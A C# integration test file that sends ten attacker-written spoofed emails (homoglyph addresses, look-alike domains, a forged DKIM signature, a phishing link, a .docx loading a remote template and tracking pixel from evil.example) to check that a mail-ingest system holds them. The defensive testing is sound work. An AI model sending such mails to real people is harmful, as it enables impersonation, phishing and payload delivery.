using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;
using Regin.Core.Persistence;
using Regin.Core.Reminders;
using Regin.Testing;

using static Regin.MailIngest.Tests.Integration.AttackRound;

namespace Regin.MailIngest.Tests.Integration;

/// <summary>
/// Attacker round 50, through a real Dovecot and smtp4dev beside Alice's draft, read by the watcher, on SQLite and on
/// PostgreSQL: ten mails as an attacker writes them. A Unicode look-alike of her address in the From's display name, a
/// Reply-To to a look-alike of her domain, a forged In-Reply-To to her own first mail, a .docx with a remote template and
/// external pictures in her thread, 200 attachments, an encoded-word display name holding "&lt;admin@…&gt;", a DKIM
/// signature pasted from her real mail, a STOP written with Cyrillic letters, a calendar invitation in her thread, and a
/// message/rfc822 attachment holding a filled template in her name. Nothing of hers changes, every mail is kept raw,
/// replies go to the proven From only, none quotes what was held.
/// </summary>
public sealed class AttackerRound50Tests(MailServers servers) : IClassFixture<MailServers>
{
    private const string Alice = "alice@example.org";
    private const string HeldChange = "held in our thread: answers=";

    private static MimePart File(byte[] bytes, string name, string mediaType, string subtype) => Intake.MailRound45Tests.File(bytes, name, mediaType, subtype);

    private static MimeMessage WithParts(MimeMessage message, string text, params MimeEntity[] parts) => AttackerRound49Tests.WithParts(message, text, parts);

    private static readonly Attack[] Attacks =
    [
        // Her address in the display name with a Cyrillic "а" (a reader sees alice@example.org), from the attacker's own
        // authenticated mailbox, in her thread, changing her title.
        new("m50-01-lookalike-address-in-display-name", c => MailTestHost.Authenticated(Mail(c, "m50-01", new MailboxAddress("alice@ex\u0430mple.org", "mallory.01@evil.example"),
            "Updated title, please:\n[Q05] Payments desk for refugees", c.OurReplyToAlice)), "unverified_update", "en", ["Payments desk"]),
        // Her From, no pass, and a Reply-To at a look-alike of her domain: held, nobody answered (not the look-alike either).
        new("m50-02-reply-to-a-lookalike-domain", c =>
        {
            var m = Mail(c, "m50-02", new MailboxAddress("Alice Example", Alice), "New contact address:\n[Q03] alice@examp1e.org", c.OurReplyToAlice);
            m.ReplyTo.Add(new MailboxAddress("Alice Example", "alice@examp1e.org"));
            return m;
        }, "unverified_update", null, Detail: HeldChange + "1 not applied"),
        // An authenticated stranger whose In-Reply-To and References name Alice's own first mail (an id she chose, not ours).
        new("m50-03-forged-in-reply-to-her-first-mail", c =>
        {
            var m = MailTestHost.Authenticated(Mail(c, "m50-03", new MailboxAddress("Mallory", "mallory.03@evil.example"), "[Q05] Takeover title\n[Q13] 2001", null, subject: "Re: REGIN practice"));
            m.InReplyTo = c.AliceMessageId;
            m.References.Add(c.AliceMessageId);
            return m;
        }, "created|needs_info", "en"),
        // Her From, no pass, in her thread: a .docx whose settings load a remote template and whose body links remote pictures.
        new("m50-04-docx-remote-template-in-her-thread", c => WithParts(Mail(c, "m50-04", new MailboxAddress("Alice Example", Alice), "", c.OurReplyToAlice),
            "Updated template attached.",
            File(AttackerRound43Tests.Word(new() { ["title"] = "Remote template title", ["start_year"] = "2002" }, d =>
            {
                var settings = d.MainDocumentPart!.DocumentSettingsPart ?? d.MainDocumentPart.AddNewPart<DocumentSettingsPart>();
                settings.Settings ??= new Settings();
                var template = settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://evil.example/t.dotm"));
                settings.Settings!.Append(new AttachedTemplate { Id = template.Id });
                d.MainDocumentPart.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("http://evil.example/pixel.png?u=alice"));
            }), "REGIN template.docx", "application", "vnd.openxmlformats-officedocument.wordprocessingml.document")),
            "unverified_update", null),
        // 200 attachments (each a little text file answering the title) from an authenticated stranger: bounded, named.
        new("m50-05-two-hundred-attachments", c => WithParts(MailTestHost.Authenticated(Mail(c, "m50-05", new MailboxAddress("Mallory", "mallory.05@evil.example"), "", null, subject: "REGIN")),
            "[Q05] Two hundred files\n[Q06] Malta",
            [.. Enumerable.Range(0, 200).Select(i => (MimeEntity)File(Encoding.UTF8.GetBytes($"[Q05] file {i}\n"), $"answers-{i:000}.txt", "text", "plain"))]),
            "created", "en", Detail: "too_many_attachments"),
        // An encoded-word display name holding "REGIN team <reginproject@crpm.org>", from the attacker's own mailbox.
        new("m50-06-encoded-display-name-holds-our-address", c =>
        {
            var name = Convert.ToBase64String(Encoding.UTF8.GetBytes("REGIN team <reginproject@crpm.org>"));
            var m = MimeMessage.Load(new MemoryStream(Encoding.UTF8.GetBytes(
                ($"X-Attack: m50-06\nMessage-ID: <{c.User}.m50-06@mx.attacker.example>\nAuthentication-Results: {MailTestHost.PassHeader("mallory.06@evil.example")}\n"
                + $"From: =?utf-8?b?{name}?= <mallory.06@evil.example>\nTo: reginproject@crpm.org\nSubject: REGIN: verify your practice\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
                + "[Q05] Verify your account at regin-verify.example\n[Q06] Malta\n").Replace("\n", "\r\n", StringComparison.Ordinal))));
            return m;
        }, "created", "en", ["regin-verify"]),
        // Her From, a DKIM-Signature pasted from a real mail of hers (d=example.org), our server: dkim=fail (body changed).
        new("m50-07-dkim-signature-pasted-from-her-mail", c =>
        {
            var m = Mail(c, "m50-07", new MailboxAddress("Alice Example", Alice), "[Q13] 2003", c.OurReplyToAlice);
            m.Headers.Insert(0, new MimeKit.Header("DKIM-Signature", "v=1; a=rsa-sha256; c=relaxed/relaxed; d=example.org; s=mail; h=from:to:subject:date; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=; b=dGhpcyBpcyBoZXIgcmVhbCBzaWduYXR1cmU="));
            m.Headers.Insert(0, new MimeKit.Header("Authentication-Results", "mx.crpm.org; spf=fail smtp.mailfrom=example.org; dkim=fail (body hash did not verify) header.d=example.org; dmarc=fail header.from=example.org"));
            return m;
        }, "unverified_update", null, Detail: "answers=1 not applied sender_not_authenticated(spf=fail, dkim=fail, dmarc=fail)"),
        // A STOP written with Cyrillic letters ("SТОР"), her From, no pass: held, her reminders go on.
        new("m50-08-homoglyph-stop", c => Mail(c, "m50-08", new MailboxAddress("Alice Example", Alice), "S\u0422\u041e\u0420", c.OurReplyToAlice),
            "unverified_update", null, Detail: "held in our thread: stop not applied"),
        // A calendar invitation in her thread from an authenticated stranger, its description carrying keys.
        new("m50-09-calendar-invite-in-her-thread", c => WithParts(MailTestHost.Authenticated(Mail(c, "m50-09", new MailboxAddress("Mallory", "mallory.09@evil.example"), "", c.OurReplyToAlice)),
            "Invitation: REGIN follow-up call",
            new TextPart("calendar") { Text = "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nORGANIZER:mailto:alice@example.org\nSUMMARY:[Q05] Calendar title\nDESCRIPTION:[Q13] 2004\nEND:VEVENT\nEND:VCALENDAR\n" }),
            "unverified_update", "en", ["Calendar title"]),
        // A message/rfc822 attachment holding a filled template in her name, from an authenticated stranger (a new mail).
        new("m50-10-rfc822-attachment-holds-a-template-in-her-name", c =>
        {
            var inner = MailTestHost.Authenticated(Mail(c, "m50-10-inner", new MailboxAddress("Alice Example", Alice),
                "[Q01] Alice Example\n[Q03] alice@example.org\n[Q05] Template in her name\n[Q06] Malta", null, subject: "REGIN template"));
            inner.Headers.Remove("X-Attack");
            return WithParts(MailTestHost.Authenticated(Mail(c, "m50-10", new MailboxAddress("Mallory", "mallory.10@evil.example"), "", null, subject: "Fwd: REGIN template")),
                "forwarding the filled template", new MessagePart { Message = inner });
        }, "created|needs_info", "en"),
    ];

    [Theory]
    [InlineData(TestProviders.Sqlite)]
    [InlineData(TestProviders.PostgreSql)]
    public async Task Ten_attacks_as_an_attacker_writes_them_change_nothing_of_hers_and_answer_only_proven_senders(string provider)
    {
        var result = await AttackRound.RunAsync(servers, provider, "50", Attacks, new HashSet<string>(StringComparer.Ordinal) { "processed", "ignored", "failed" }, async host =>
        {
            var alice = (await host.PracticeAsync("REGIN-0001"))!;
            Assert.Equal(0, await host.CountAsync(db => db.Set<DraftReminder>().Count(r => r.PracticeId == alice.Id && r.StoppedAt != null)));
            var outbox = await host.WithScopeAsync(sp => sp.GetRequiredService<ReginDbContext>().MailOutbox.AsNoTracking().ToListAsync());
            Assert.DoesNotContain(outbox, m => m.Recipient.Contains("examp1e", StringComparison.Ordinal) || m.Recipient.Contains("crpm.org", StringComparison.Ordinal));
            // The held mails are the researchers' to see: each flagged on her practice.
            Assert.Contains(alice.Flags, f => f.Reason == "unverified_update" && f.Detail!.Contains(DraftReminderStops.HeldStopPhrase, StringComparison.Ordinal));
        });

        Assert.True(result.Failures.Count == 0, result.Report);
    }
}
